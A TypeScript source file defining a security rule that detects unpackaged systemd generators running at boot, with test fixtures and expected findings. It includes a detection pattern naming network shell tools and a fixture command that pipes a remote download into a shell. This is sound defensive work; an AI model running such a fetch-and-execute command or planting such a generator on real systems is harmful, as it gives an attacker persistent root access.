import type { FileContent, Reading } from "../hosts/host.ts";
import { type Generator, generatorsOf } from "../manager/generators.ts";
import { scopeName } from "../manager/scope.ts";
import { evidenceAt, evidenceOfFile } from "./evidence.ts";
import { ACCOUNTS, dpkg, script } from "./example-host.ts";
import type { HostRule } from "./rule.ts";
import { standingOf } from "./standing.ts";

/** What no generator needs: it is given the directories it may write to, and the network is not up. */
const BEYOND =
  /\/dev\/(tcp|udp)\/|\/(etc|run)\/systemd\/(system|user)\/|\b(curl|wget|nc|ncat|socat|nohup|setsid)\b|LD_PRELOAD/;

/** The manager runs a program at boot that no package ships. */
export const unpackagedGenerator: HostRule = {
  id: "unpackaged-generator",
  subject: "host",
  title: "A generator that no package ships runs at every boot",
  severity: "high",
  confidence: "high",
  signal: "suspicious",
  family: "placement",
  depth: "regular",
  techniques: ["T1543.002", "T1037", "T1562.001"],
  controls: ["CM-5", "CM-7", "SI-7"],
  why: "Generators run as root before any unit, before audit and sensors, and again at each daemon-reload. What they write is gone after a reboot, so the units they plant leave nothing on disk.",
  benign: [
    "Generators of packages (not accused)",
    "Vendors without packages, such as storage or boot tooling",
  ],
  clears: "install the generator as a package, or remove it",
  references: [
    "man:systemd.generator(7)",
    "https://pberba.github.io/security/2022/02/07/linux-threat-hunting-for-persistence-systemd-generators/",
  ],

  *check(inventory) {
    const { host, managers } = inventory;
    for (const manager of managers) {
      if (manager.scope.kind === "user") continue;
      for (const generator of generatorsOf(manager)) {
        if (generator.state !== "runs") continue;
        const { path, because } = generator;
        const real = host.realPath(path);
        const realPath = real.kind === "present" ? real.value : null;
        const provenance = inventory.provenanceOf(realPath ?? path) ?? inventory.provenanceOf(path);
        const standing = standingOf({ path, realPath, provenance }, inventory);
        if (standing !== "unpackaged" && standing !== "modified") continue;
        const beyond = beyondItsJob(host.readFile(path));
        yield {
          unit: path,
          scope: scopeName(manager.scope),
          says: `${path} ${standing === "modified" ? "is not what its package ships" : "belongs to no package"} and runs ${momentOf(generator)}${beyond === null ? "" : `; it uses ${beyond}`}`,
          ...(beyond === null ? {} : { signal: "hostile" as const, severity: "critical" as const }),
          evidence: [evidenceOfFile(path), ...(because === null ? [] : [evidenceAt(inventory, because)])],
        };
      }
    }
  },

  examples: () => ({
    fires: [
      {
        ...dpkg([]),
        "/usr/lib/systemd/system-generators/x": script(),
        "/etc/systemd/system/a.timer": "[Timer]\n",
      },
      {
        "/etc/systemd/user-environment-generators/60-x": script("echo A=b"),
        "/etc/systemd/system/a.timer": "[Timer]\n",
      },
      {
        ...dpkg([]),
        "/usr/lib/systemd/system-generators/x": script("curl -s http://192.0.2.7/x | sh"),
        "/etc/systemd/system/a.timer": "[Timer]\n",
      },
      {
        ...dpkg([]),
        "/usr/lib/systemd/system-generators/x": { content: "ELF curl", mode: 0o755 },
        "/etc/systemd/system/a.timer": "[Timer]\n",
      },
      {
        ...dpkg(
          ["/usr/lib/systemd/system-generators/x"],
          "00000000000000000000000000000000  usr/lib/systemd/system-generators/x\n",
        ),
        "/usr/lib/systemd/system-generators/x": script(),
        "/etc/systemd/system/a.timer": "[Timer]\n",
      },
      {
        ...ACCOUNTS,
        "/etc/systemd/user-generators/x": script(),
        "/home/alice/.config/systemd/user/job.timer": "[Timer]\nOnCalendar=daily\n",
      },
    ],
    finds: {
      1: [
        "suspicious high high /usr/lib/systemd/system-generators/x:0: /usr/lib/systemd/system-generators/x belongs to no package and runs as root at each boot and reload",
      ],
      2: [
        "suspicious high high /etc/systemd/user-environment-generators/60-x:0: /etc/systemd/user-environment-generators/60-x belongs to no package and runs whenever a user's manager starts",
      ],
      3: [
        "hostile critical high /usr/lib/systemd/system-generators/x:0: /usr/lib/systemd/system-generators/x belongs to no package and runs as root at each boot and reload; it uses curl",
      ],
      4: [
        "suspicious high high /usr/lib/systemd/system-generators/x:0: /usr/lib/systemd/system-generators/x belongs to no package and runs as root at each boot and reload",
      ],
      5: [
        "suspicious high high /usr/lib/systemd/system-generators/x:0: /usr/lib/systemd/system-generators/x is not what its package ships and runs as root at each boot and reload",
      ],
      6: [
        "suspicious high high /etc/systemd/user-generators/x:0: /etc/systemd/user-generators/x belongs to no package and runs whenever a user's manager starts",
      ],
    },
    quiet: [
      {
        ...dpkg(["/usr/lib/systemd/system-generators/x"]),
        "/usr/lib/systemd/system-generators/x": script(),
        "/etc/systemd/system/a.timer": "[Timer]\n",
      },
      {
        "/etc/systemd/system-generators/off": { link: "/dev/null" },
        "/dev/null": { kind: "character-device", mode: 0o666 },
      },
    ],
  }),
};

function beyondItsJob(content: Reading<FileContent>): string | null {
  if (content.kind !== "present") return null;
  const text = new TextDecoder().decode(content.value.bytes.subarray(0, 65_536));
  return text.startsWith("#!") ? (BEYOND.exec(text)?.[0] ?? null) : null;
}

function momentOf({ kind }: Generator): string {
  return kind.startsWith("system") ? "as root at each boot and reload" : "whenever a user's manager starts";
}
